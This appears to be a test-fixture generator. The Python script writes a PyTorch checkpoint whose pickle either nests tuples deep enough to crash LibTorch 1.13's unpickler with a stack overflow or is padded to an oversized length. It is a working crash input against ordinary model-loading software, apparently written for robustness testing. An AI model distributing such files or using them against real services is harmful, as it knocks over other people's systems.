#!/usr/bin/env python3
"""Writes a pytorch_model.bin (torch.save's zip layout) whose data.pkl is hostile.

--depth N: tuples nested N levels deep (MARK N times, then TUPLE N times),
which LibTorch 1.13's unpickler builds and then cannot take apart without
exhausting the stack (a segmentation fault at 200,000).
--bytes N: a pickle of N bytes (one long string), larger than any
checkpoint's pickle needs.
The archive is written by torch's own writer, so only the pickle is unusual.
"""
import argparse
import struct

import torch


def deep_tuples(depth):
    return b"\x80\x02" + b"(" * depth + b"t" * depth + b"."


def long_string(size):
    n = size - 2 - 5 - 1
    return b"\x80\x02X" + struct.pack("<I", n) + b"x" * n + b"."


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    g = ap.add_mutually_exclusive_group(required=True)
    g.add_argument("--depth", type=int)
    g.add_argument("--bytes", type=int)
    a = ap.parse_args()
    data = deep_tuples(a.depth) if a.depth else long_string(a.bytes)
    w = torch._C.PyTorchFileWriter(a.out)
    w.write_record("data.pkl", data, len(data))
    w.write_end_of_file()


if __name__ == "__main__":
    main()
